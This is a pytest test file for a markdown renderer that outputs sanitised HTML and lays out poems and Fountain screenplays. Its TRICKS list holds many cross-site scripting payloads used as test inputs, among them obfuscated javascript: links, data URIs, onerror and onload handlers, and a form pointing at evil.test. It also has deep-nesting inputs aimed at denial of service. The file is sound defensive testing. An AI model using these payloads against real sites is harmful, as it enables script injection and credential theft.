"""Markdown in, clean HTML out; poems and screenplays as they were laid out."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from classprojects.core.prose import excerpt, excerpt_of, render, render_remark, render_text

LAYOUTS = ("prose", "poem", "screenplay")
MAY = {"p", "br", "em", "strong", "a", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "u", "div"}


def check(html: str) -> None:
    """Nothing in ``html`` is more than words, their stress and links to pages."""
    tree = lxml.html.fragment_fromstring(html, create_parent="main")
    for element in tree.iterdescendants():
        assert element.tag in MAY, html
        assert set(element.attrib) <= {"href", "title", "rel", "start", "class"}, html
        address = element.get("href", "https://")
        assert address.startswith(("http://", "https://", "mailto:", "/", "#", "?")) or ":" not in address.split("/")[0], html
        if element.tag == "a" and element.get("href"):
            assert element.get("rel") == "noopener nofollow ugc"


def test_headings_begin_below_the_pages_own_and_skip_no_level() -> None:
    """However deep somebody begins, a screen reader finds no gap."""
    assert render_text("## One\n\n#### Two\n\n## Three") == "<h2>One</h2>\n<h3>Two</h3>\n<h2>Three</h2>"
    assert render_text("# One\n\n## Two\n\n### Three\n\n#### Four") == "<h2>One</h2>\n<h3>Two</h3>\n<h4>Three</h4>\n<h4>Four</h4>"
    assert render("### One\n\n##### Two", "poem") == "<h2>One</h2>\n<h3>Two</h3>"


def test_nothing_runs() -> None:
    """HTML is text, pictures from elsewhere are links, and links lead to pages only."""
    html = render_text("<script>alert(1)</script> ![x](https://e.test/a.png) [a](javascript:alert(1)) [b](https://e.test)")
    assert "<script" not in html and "<img" not in html and 'href="javascript' not in html
    assert 'href="https://e.test"' in html and 'href="https://e.test/a.png"' in html


TRICKS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "[a](file:///etc/passwd) [b](ftp://e.test/x) [c](blob:https://e.test/1)",
    "<javascript:alert(1)> <data:text/html,x> <https://e.test/\"onclick=alert(1)>",
    "<a@b.test> <mailto:a@b.test?body=<script>>",
    "[a](https://e.test 'onmouseover=alert(1)') [b](https://e.test \"\\\" onclick=alert(1) \\\"\")",
    "[a]: javascript:alert(1)\n\n[a] [a][a] [b][a]",
    "[^1] and more\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "<img src=x onerror=alert(1)> <svg/onload=alert(1)> <iframe srcdoc=x></iframe>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!-- --!><script>alert(1)</script> --> <![CDATA[<script>]]> <?php echo 1 ?>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "```html\n<script>alert(1)</script>\n```\n\n    <b>indented</b>\n\n`<i>`",
    "```\"onclick=alert(1)\nx\n```",
    "~~~ <script>\nx\n~~~",
    "# <script>alert(1)</script>\n\n> <b>quoted</b>\n\n- <i>listed</i>",
    "a <b onclick='x'>b</b> &lt;script&gt; &amp;lt;script&amp;gt; &#60;script&#62;",
    "*a **b* c** _d __e_ f__ ***g**h*",
    "\\<script\\> \\[a](javascript:1) \\*a\\*",
    "[![x](https://e.test/a.png)](javascript:alert(1)) [![y](javascript:1)](https://e.test)",
    "| a | b |\n|---|---|\n| <b>c</b> | d |",
    "<style>*{display:none}</style>\n\n<base href=//evil.test>\n\n<form action=//evil.test><input name=password>",
    "\u202eevil\u202c \u2066x\u2069 \ufeff \u200b <\u200bscript>",
    "INT. <script>alert(1)</script>\n\nADA <b>\n(<i>so</i>)\n[a](javascript:alert(1))\n\n> <b>x</b> <\n\n@<img src=x>\ny",
    "Title: <script>alert(1)</script>\nAuthor: [a](javascript:1)\n\n.<b>\n\n~<i>\n\n!<u>",
    "  <script>\n\t\t<b>deep</b>   gap   <i>\n# <em>",
]


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_is_more_than_words(trick: str, layout: str) -> None:
    check(render(trick, layout))
    check(render_remark(trick))
    assert "<" not in excerpt_of(trick, layout).replace("<", "", trick.count("<") + trick.count("&lt;") + trick.count("&#60;"))


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(alphabet=st.one_of(st.sampled_from("<>[]()!*_`#&;:\"'/\\\n -=~|@.0aj"), st.characters(exclude_categories=["Cs"])), max_size=200),
    layout=st.sampled_from(LAYOUTS),
)
def test_whatever_is_typed_is_words(text: str, layout: str) -> None:
    check(render(text, layout))
    check(render_remark(text))
    excerpt_of(text, layout)


@pytest.mark.parametrize(
    "bomb",
    ["> " * 5000 + "x", "- " * 5000 + "x", "1. " * 5000 + "x", "*" * 5000 + "a" + "*" * 5000, "[" * 5000 + "a" + "](b)" * 5000, "\n".join("  " * n + "- a" for n in range(300))],
)
def test_nesting_has_a_bottom(bomb: str) -> None:
    """Browsers and our own cleaner go only so deep; so does what we hand them."""
    html = render_text(bomb)
    depth = deepest = 0
    for piece in html.split("<")[1:]:
        if piece.startswith("/"):
            depth -= 1
        elif not piece.startswith(("br", "hr")):
            depth += 1
            deepest = max(deepest, depth)
    assert deepest < 120


def test_a_picture_is_a_link_to_it_and_inside_a_link_its_words() -> None:
    assert render_text("![Moss](https://e.test/a.png)") == '<p><a href="https://e.test/a.png" rel="noopener nofollow ugc">Moss</a></p>'
    assert render_text("[![Moss](https://e.test/a.png)](https://e.test)").count("<a ") == 1
    assert render_text("![Moss](/a.png)") == "<p>Moss</p>"


def test_a_poem_keeps_lines_indentation_and_gaps() -> None:
    html = render("  The *sea\n\t  comes* in\n- not a list\n1. nor this\n\nslow   and   slow\n\n***\n\nend", "poem").replace("&nbsp;", "_")
    assert html == (
        '<p class="stanza">__The <em>sea<br>\n______comes</em> in<br>\n- not a list<br>\n1. nor this</p>\n'
        '<p class="stanza">slow___and___slow</p>\n<hr>\n<p class="stanza">end</p>'
    )
    assert excerpt_of("  The *sea*\n   comes in\n\n## II", "poem") == "The sea\ncomes in\n## II"


SCRIPT = """Title: The Kettle
Author: Ada
Draft date: May
Notes: not shown

INT. KITCHEN - NIGHT #1A#

A kettle. /* cut
this */ It [[check]] hums.
    Indented.

ADA (V.O.)
(softly)
Is it _on_?
It is **on**.

@McKay ^
Yes.

> FADE OUT

>THE END<

===

# Section
= Synopsis

.ROOF

CUT TO:

BELOW

NOBODY IS LOWER CASE here

~la la"""


def test_a_screenplay_is_set_by_fountains_plain_rules() -> None:
    html = render(SCRIPT, "screenplay")
    tree = lxml.html.fragment_fromstring(html, create_parent="main")
    found = [(one.get("class") or one.tag, " ".join(one.text_content().split())) for one in tree.iterdescendants("p", "h2", "hr")]
    assert found == [
        ("credit", "The Kettle Ada May"),
        ("scene", "INT. KITCHEN - NIGHT"),
        ("action", "A kettle. It hums. Indented."),
        ("character", "ADA (V.O.)"),
        ("aside", "(softly)"),
        ("p", "Is it on? It is on."),
        ("character", "McKay"),
        ("p", "Yes."),
        ("transition", "FADE OUT"),
        ("centred", "THE END"),
        ("hr", ""),
        ("scene", "ROOF"),
        ("transition", "CUT TO:"),
        ("action", "BELOW"),
        ("action", "NOBODY IS LOWER CASE here"),
        ("lyric", "la la"),
    ]
    assert "<u>on</u>" in html and "<strong>on</strong>" in html and "&nbsp;&nbsp;&nbsp;&nbsp;Indented." in html
    assert excerpt_of(SCRIPT, "screenplay").startswith("The Kettle\nAda\nMay\nINT. KITCHEN - NIGHT\nA kettle.")


def test_a_screenplay_in_letters_without_capitals_is_set_where_it_says_so() -> None:
    html = render("@علي\nمرحبا\n\nجلس علي.", "screenplay")
    assert '<p class="character">علي</p><p>مرحبا</p>' in html and '<p class="action">جلس علي.</p>' in html


def test_what_is_opened_and_never_closed_stays() -> None:
    assert "rest [[ of it /* all" in render("The rest [[ of it /* all", "screenplay")


def test_the_first_lines_are_plain() -> None:
    """Stars and hashes are not for cards."""
    assert excerpt("# One\n\n*Two* three\nfour") == "One\nTwo three\nfour"
